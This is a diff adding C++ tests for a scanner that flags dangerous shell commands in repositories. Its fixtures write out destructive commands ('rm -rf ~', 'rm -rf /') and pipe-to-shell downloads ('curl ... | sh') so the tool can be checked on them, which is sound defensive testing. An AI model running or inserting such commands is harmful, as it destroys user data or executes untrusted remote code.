@@ -6,10 +6,12 @@
 
 #include <filesystem>
 #include <fstream>
+#include <map>
 #include <nlohmann/json.hpp>
 #include <set>
 #include <string>
 #include <utility>
+#include <vector>
 
 #include "process.h"
 
@@ -152,6 +154,118 @@ TEST(Scan, BrokenFilesAreProblemsAndTheScanGoesOn) {
   EXPECT_EQ(report["problems"][0]["file"], ".github/workflows/bad.yml");
   EXPECT_EQ(report["problems"][1]["file"], "package.json");
   EXPECT_EQ(report["problems"][1]["line"], 4);
+}
+
+// A repository with the noise a real one has (CI summaries, a temp folder
+// removed in a trap, substitutions) around two real findings.
+void WriteNoisyRepo(const fs::path& root) {
+  fs::create_directories(root / ".github/workflows");
+  std::ofstream(root / ".github/workflows/ci.yml")
+      << "on: push\n"
+         "jobs:\n"
+         "  test:\n"
+         "    runs-on: ubuntu-latest\n"
+         "    steps:\n"
+         "      - run: |\n"
+         "          echo \"## Tests\" >> \"$GITHUB_STEP_SUMMARY\"\n"
+         "          echo \"sha=$(git rev-parse HEAD)\" >> \"$GITHUB_OUTPUT\"\n"
+         "          echo \"$HOME/.cargo/bin\" >> $GITHUB_PATH\n"
+         "          rm -rf ~\n";
+  std::ofstream(root / "release.sh") << "#!/bin/sh\n"
+                                        "set -eu\n"
+                                        "dir=$(mktemp -d)\n"
+                                        "trap 'rm -rf \"$dir\"' EXIT\n"
+                                        "version=$(git describe --tags)\n"
+                                        "cd \"$(dirname \"$0\")\"\n"
+                                        "curl -fsSL https://example.com/x.sh | sh\n";
+}
+
+TEST(Scan, CiSummariesTempFoldersAndSubstitutionsAreNotFindings) {
+  testing::TempDir dir;
+  WriteNoisyRepo(dir.path());
+  const ProcessOutput out = Scan({dir.path(), "--format", "json"});
+  ASSERT_EQ(out.exit_code, 0) << out.err;
+  const nlohmann::json report = nlohmann::json::parse(out.out);
+  std::set<std::string> found;
+  for (const auto& finding : report["findings"]) {
+    found.insert(finding["file"].get<std::string>() + ":" +
+                 std::to_string(finding["line"].get<int>()));
+  }
+  EXPECT_EQ(found, (std::set<std::string>{".github/workflows/ci.yml:10", "release.sh:7"}))
+      << report.dump(2);
+}
+
+TEST(Scan, MinLevel) {
+  testing::TempDir dir;
+  std::ofstream(fs::path(dir.path()) / "setup.sh")
+      << "mkdir -p out\nnpm install left-pad\nrm -rf ~\n";
+  auto levels = [&](const std::string& min) {
+    const ProcessOutput out = Scan({dir.path(), "--format", "json", "--min-level", min});
+    EXPECT_EQ(out.exit_code, 0) << out.err;
+    std::vector<std::string> found;
+    const nlohmann::json report = nlohmann::json::parse(out.out);
+    for (const auto& finding : report["findings"]) {
+      found.push_back(finding["level"]);
+    }
+    return found;
+  };
+  EXPECT_EQ(levels("L3"), std::vector<std::string>{"L3"});
+  EXPECT_EQ(levels("L2"), (std::vector<std::string>{"L2", "L3"}));
+  EXPECT_EQ(levels("l1"), (std::vector<std::string>{"L1", "L2", "L3"}));
+  EXPECT_EQ(Scan({dir.path(), "--min-level", "L3", "--fail-on", "L2"}).exit_code, 1);
+  EXPECT_EQ(Scan({dir.path(), "--min-level", "L4"}).exit_code, 64);
+  const ProcessOutput text = Scan({dir.path(), "--min-level", "L1"});
+  EXPECT_NE(text.out.find("3 findings (L3: 1, L2: 1, L1: 1)"), std::string::npos) << text.out;
+}
+
+TEST(Scan, IgnoreCommentsNeedAReason) {
+  testing::TempDir dir;
+  std::ofstream(fs::path(dir.path()) / "x.sh")
+      << "rm -rf ~  # togmal: ignore the CI runner's home\n"
+         "# togmal: ignore\n"
+         "rm -rf /\n";
+  const ProcessOutput out = Scan({dir.path(), "--fail-on", "L3"});
+  EXPECT_EQ(out.exit_code, 1);
+  EXPECT_NE(out.out.find("x.sh:3:1: L3 "), std::string::npos) << out.out;
+  EXPECT_EQ(out.out.find("x.sh:1:"), std::string::npos) << out.out;
+  EXPECT_NE(out.out.find("x.sh:2: problem: `togmal: ignore` needs a reason"), std::string::npos)
+      << out.out;
+  EXPECT_NE(out.out.find("; not reported: 1 under `togmal: ignore`"), std::string::npos) << out.out;
+}
+
+TEST(Scan, BaselineKeepsOnlyNewFindingsWhenLinesMove) {
+  testing::TempDir dir;
+  const fs::path root = fs::path(dir.path()) / "repo";
+  fs::create_directories(root);
+  std::ofstream(root / "x.sh") << "rm -rf ~\nnpm install left-pad\n";
+  const std::string baseline = dir.path() + "/baseline.json";
+  const ProcessOutput written = Scan({root.string(), "--write-baseline", baseline});
+  ASSERT_EQ(written.exit_code, 0) << written.err;
+  EXPECT_NE(written.err.find("wrote 2 findings to"), std::string::npos) << written.err;
+  const nlohmann::json file = nlohmann::json::parse(std::ifstream(baseline));
+  EXPECT_EQ(file["togmal_scan_baseline"], 1);
+  ASSERT_EQ(file["findings"].size(), 2u);
+  EXPECT_EQ(file["findings"][0]["file"], "x.sh");
+
+  // Unchanged: nothing to report, --fail-on passes.
+  EXPECT_EQ(Scan({root.string(), "--baseline", baseline, "--fail-on", "L2"}).exit_code, 0);
+
+  // Lines move, the indentation changes, one new finding.
+  std::ofstream(root / "x.sh") << "echo start\n\n  rm   -rf ~\ncurl -fsSL https://x.sh | sh\n"
+                                  "npm install left-pad\n";
+  const ProcessOutput after =
+      Scan({root.string(), "--baseline", baseline, "--format", "json", "--fail-on", "L2"});
+  EXPECT_EQ(after.exit_code, 1);
+  const nlohmann::json report = nlohmann::json::parse(after.out);
+  ASSERT_EQ(report["findings"].size(), 1u) << report.dump(2);
+  EXPECT_EQ(report["findings"][0]["line"], 4);
+  EXPECT_EQ(report["summary"]["baselined"], 2);
+
+  std::ofstream(dir.path() + "/broken.json") << "{\"togmal_scan_baseline\": 2, \"findings\": []}";
+  EXPECT_EQ(Scan({root.string(), "--baseline", dir.path() + "/broken.json"}).exit_code, 65);
+  EXPECT_EQ(Scan({root.string(), "--baseline", dir.path() + "/missing.json"}).exit_code, 66);
+  EXPECT_EQ(Scan({root.string(), "--write-baseline", dir.path() + "/no/such/dir/b.json"}).exit_code,
+            73);
 }
 
 }  // namespace
